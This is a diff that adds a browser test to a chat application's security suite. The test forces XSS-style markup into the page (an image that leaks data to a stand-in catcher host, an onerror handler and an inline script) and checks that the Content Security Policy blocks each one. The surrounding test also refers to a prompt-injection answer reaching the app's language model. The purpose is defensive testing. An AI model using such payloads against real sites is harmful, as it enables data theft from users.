@@ -148,3 +148,33 @@ def test_hostile_answer_is_inert_in_the_widget(watched_page, login, hostile) -> 
     _record("widget", page, answer, watch, catcher)
     assert llm.obeyed == 1, "the injected instruction reached the model"
     _assert_inert(page, answer, watch, catcher)
+
+
+def test_the_policy_blocks_what_a_renderer_bug_would_let_through(watched_page, login, hostile) -> None:
+    """The control behind the renderer, and proof the recorders above see violations: markup forced into
+    the chat page (as a renderer bug would) loads nothing from another origin and runs no inline code."""
+    _, catcher = hostile
+    page, watch = watched_page
+    login(user("target"))
+    page.add_init_script(CSP_RECORDER)
+    page.goto("/chat/")
+    page.evaluate(
+        """(leak) => {
+          const box = document.createElement('div');
+          box.innerHTML = `<img src="${leak}/leak?d=img"><img src=x onerror="window.__ran = 1">`;
+          document.querySelector('.chat-app').appendChild(box);
+          const script = document.createElement('script');
+          script.textContent = 'window.__ran = 2';
+          document.body.appendChild(script);
+        }""",
+        catcher.origin,
+    )
+    page.wait_for_load_state("networkidle")
+    page.wait_for_function("() => window.__cspViolations.length >= 3")
+    violations = page.evaluate("window.__cspViolations")
+    assert any(v.startswith("img-src") and "127.0.0.2" in v for v in violations), violations
+    assert any(v.startswith("script-src") for v in violations), violations
+    assert page.evaluate("window.__ran") is None, "no inline handler or script ran"
+    # Playwright reports the blocked attempt as a request; the catcher shows it never left the browser.
+    assert catcher.hits == []
+    assert watch.foreign_requests == [f"{catcher.origin}/leak?d=img"]
